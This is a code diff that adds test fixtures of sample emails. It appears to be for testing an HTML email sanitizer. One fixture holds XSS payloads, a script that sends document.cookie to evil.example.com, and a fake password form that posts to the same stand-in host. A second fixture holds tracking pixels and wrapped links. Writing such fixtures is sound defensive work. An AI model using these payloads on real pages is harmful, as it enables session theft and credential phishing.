@@ -472,3 +472,70 @@ def get_edge_case_emails() -> List[Dict[str, Any]]:
             "conversation_id": "conv-edge-4"
         }
     ]
+
+
+def get_malicious_html_email() -> Dict[str, Any]:
+    """Get an HTML email carrying script injection attempts.
+    
+    Returns:
+        dict: Email whose body contains scripts, event handlers, and unsafe URLs
+    """
+    return {
+        "id": "html-malicious-1",
+        "subject": "Your invoice is ready",
+        "body": """<html><head><title>Invoice</title>
+<style>body { background: url(javascript:alert(1)) }</style>
+<script>document.location = 'https://evil.example.com/?c=' + document.cookie</script>
+</head>
+<body onload="steal()">
+<p onclick="steal()" style="color: red">Please review the <b>attached</b> invoice.</p>
+<a href="javascript:alert('xss')">View invoice</a>
+<a href=" JaVaScRiPt&#9;:alert(1)">Obfuscated</a>
+<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data link</a>
+<img src="x" onerror="steal()">
+<iframe src="https://evil.example.com/frame"><p>Frame fallback</p></iframe>
+<form action="https://evil.example.com/login"><input name="password" type="password">Sign in</form>
+<svg><script>alert(1)</script></svg>
+<!--[if mso]><script>alert(1)</script><![endif]-->
+<div>Thanks &amp; regards, <span>Billing &lt;team&gt;</span>
+</body></html>""",
+        "from": "billing@invoices.example.com",
+        "from_name": "Billing",
+        "to": "recipient@example.com",
+        "received_time": datetime.now().isoformat(),
+        "is_read": False,
+        "categories": [],
+        "conversation_id": "conv-html-malicious-1"
+    }
+
+
+def get_tracker_html_email() -> Dict[str, Any]:
+    """Get a marketing HTML email with tracking pixels and wrapped links.
+    
+    Returns:
+        dict: Email whose body contains open-tracking images and Safe Links
+    """
+    return {
+        "id": "html-tracker-1",
+        "subject": "This week's product updates",
+        "body": """<html><body>
+<table width="600"><tr><td>
+<h1>Product updates</h1>
+<img src="https://cdn.example.com/banner.png" alt="Banner" width="600" height="200">
+<p>Read the <a href="https://nam12.safelinks.protection.outlook.com/?url=https%3A%2F%2Fblog.example.com%2Fposts%3Fid%3D42%26ref%3Dmail&amp;data=05%7C01&amp;reserved=0">release notes</a>.</p>
+<p><a href="https://www.google.com/url?q=https://docs.example.com/guide&amp;sa=D">Guide</a></p>
+<img src="https://track.example.com/open.gif?u=123" width="1" height="1" alt="">
+<img src="https://track.example.com/open2.gif" style="width:1px;height:1px">
+<img src="https://cdn.example.com/hidden.png" style="display:none">
+<img src="https://example.us1.list-manage.com/track/open.php?u=abc">
+<img src="https://mailtrack.io/trace/mail/abc.png" width="10" height="10">
+</td></tr></table>
+</body></html>""",
+        "from": "news@example.com",
+        "from_name": "Example News",
+        "to": "recipient@example.com",
+        "received_time": datetime.now().isoformat(),
+        "is_read": False,
+        "categories": ["Newsletter"],
+        "conversation_id": "conv-html-tracker-1"
+    }